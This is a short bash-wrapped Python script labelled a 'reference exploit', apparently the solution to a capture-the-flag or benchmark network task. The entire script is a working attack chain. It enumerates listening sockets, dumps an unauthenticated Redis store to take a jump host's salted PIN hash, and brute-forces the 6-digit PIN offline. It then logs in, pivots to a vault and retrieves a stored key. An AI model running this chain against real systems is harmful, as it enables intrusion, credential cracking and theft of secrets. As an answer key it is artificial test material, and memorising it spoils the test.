#!/bin/bash
# Reference exploit: recon (the listening sockets of this network namespace), an unauthenticated
# Redis-protocol store holding the jump host's salted PIN hash, an offline crack of the 6-digit PIN,
# then through the jump host (which vouches for its clients) to the vault.
set -euo pipefail
python3 - <<'PY'
import hashlib, re, socket

# stage: recon: every listening TCP socket, from the kernel's table
listening = []
for line in open("/proc/net/tcp").read().splitlines()[1:]:
    local, state = line.split()[1], line.split()[3]
    if state == "0A":
        ip, port = local.split(":")
        listening.append((".".join(str(int(ip[i : i + 2], 16)) for i in (6, 4, 2, 0)), int(port, 16)))

def talk(addr, data, wait):
    """what addr answers to data, read until wait shows up, the peer closes or it goes quiet for 1 s"""
    with socket.create_connection(addr, timeout=1) as s:
        s.sendall(data)
        out = b""
        try:
            while wait not in out and (chunk := s.recv(65536)):
                out += chunk
        except TimeoutError:
            pass
        return out

# stage: find the store that speaks the Redis protocol and read the jump host's entry
kv = next(a for a in listening if talk(a, b"PING\r\n", b"\r\n").startswith(b"+PONG"))
keys = re.findall(rb"\$\d+\r\n([^\r]+)", talk(kv, b"KEYS *\r\nQUIT\r\n", b"+OK"))
entry = next(k for k in keys if b"jump" in k).decode()
fields = re.findall(rb"\$\d+\r\n([^\r]*)", talk(kv, f"HGETALL {entry}\r\nQUIT\r\n".encode(), b"+OK"))
info = {fields[i].decode(): fields[i + 1].decode() for i in range(0, len(fields), 2)}

# stage: crack the 6-digit PIN offline
salt, target = info["salt"].encode(), bytes.fromhex(info["pin_sha256"])
pin = next(f"{p:06d}" for p in range(10**6) if hashlib.sha256(salt + b"%06d" % p).digest() == target)

# stage: log in to the jump host and ask it to connect to the vault
host, port = info["addr"].split(":")
with socket.create_connection((host, int(port)), timeout=10) as s:
    f = s.makefile("rwb", buffering=0)
    def until(marker):
        out = b""
        while not out.endswith(marker):
            out += f.read(1)
        return out
    until(b"login: ")
    s.sendall(info["user"].encode() + b"\n")
    until(b"pin: ")
    s.sendall(pin.encode() + b"\n")
    hosts = until(b"jump01$ ").decode()
    s.sendall(b"hosts\n")
    hosts = until(b"jump01$ ").decode()
    vault = re.search(r"vault\t([\d.]+):(\d+)", hosts).groups()
    s.sendall(f"connect {vault[0]} {vault[1]}\n".encode())
    until(b"quit\n")
    s.sendall(b"list\n")
    s.settimeout(1)
    items = b""
    try:
        while chunk := s.recv(4096):
            items += chunk
    except TimeoutError:
        pass
    s.settimeout(10)
    name = next(n for n in items.decode().split() if "key" in n)
    s.sendall(f"get {name}\nquit\n".encode())
    out = b""
    while chunk := s.recv(4096):
        out += chunk
    print(out.decode())
PY
